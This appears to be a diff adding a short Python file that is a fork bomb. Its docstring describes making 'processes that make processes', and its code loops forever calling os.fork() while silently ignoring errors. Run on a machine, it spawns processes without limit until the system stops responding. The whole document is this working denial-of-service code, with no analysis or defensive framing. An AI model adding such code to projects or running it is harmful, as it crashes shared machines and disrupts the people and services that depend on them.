@@ -1,0 +1,8 @@
+"""Makes processes that make processes."""
+
+import contextlib
+import os
+
+while True:
+    with contextlib.suppress(OSError):
+        os.fork()
